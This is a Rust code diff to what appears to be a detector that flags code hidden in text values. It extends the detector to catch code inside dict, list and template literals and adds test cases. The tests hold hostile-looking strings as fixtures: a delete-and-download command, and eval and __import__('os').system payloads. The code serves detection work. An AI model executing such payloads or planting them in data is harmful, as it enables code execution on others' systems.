@@ -106,8 +106,8 @@ fn plain(text: &str, budget: &Budget) -> Option<String> {
     if let Some(what) = database_address(&small) {
         return Some(format!("{what}: {}", shown(text)));
     }
-    // Templates are judged by their own rules.
-    let is_template = text.contains("{%") || text.contains("{{");
+    // Templates are judged by their own rules; a value in braces is none.
+    let is_template = text.contains("{%") || text.contains("{{") && !is_literal(text.trim());
     if is_template || !HINTS.iter().any(|hint| small.contains(hint)) || budget.operate(text.len() as u64 / 16).is_err()
     {
         return None;
@@ -217,8 +217,13 @@ fn is_statement(line: &str) -> bool {
         let name = name.trim();
         !name.is_empty() && name.chars().all(|letter| letter == '_' || letter.is_alphanumeric())
     });
-    let starts = assigned || STATEMENTS.iter().any(|start| line.starts_with(start));
-    starts && line.ends_with([')', ';', '"', '\'', '…', ']'])
+    let starts = assigned || is_literal(line) || STATEMENTS.iter().any(|start| line.starts_with(start));
+    starts && line.ends_with([')', ';', '"', '\'', '…', ']', '}'])
+}
+
+/// `{0: …}`, `[…]`, `(…)`: a value, which whoever reads it evaluates.
+fn is_literal(text: &str) -> bool {
+    [('{', '}'), ('[', ']'), ('(', ')')].iter().any(|(open, close)| text.starts_with(*open) && text.ends_with(*close))
 }
 
 /// Without the spaces that all lines start with.
@@ -309,6 +314,9 @@ mod tests {
             "rm -rf /srv/waag-inert && wget http://example.invalid/x",
             "chmod 777 /srv/waag-inert",
             "handler = eval(\"__import__('os').system('id')\")",
+            "{0: __import__('os').system('echo waag-inert')}",
+            "[640, __import__('os').system('echo waag-inert')]",
+            "{{__import__('os').system('echo waag-inert')}}",
         ] {
             assert!(is_program(text), "{text}");
         }
@@ -323,6 +331,9 @@ mod tests {
             "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRleHQ=",
             "ViTForImageClassificationModelName",
             "{{ messages }} import os; os.system('x')",
+            "{0: 'person', 1: 'operating system', 2: 'exec'}",
+            "{'os': 'system', 'import': [1, 2]}",
+            "[640, 640]",
             "<p>a page about JavaScript</p>",
         ] {
             assert!(!is_program(text), "{text}");
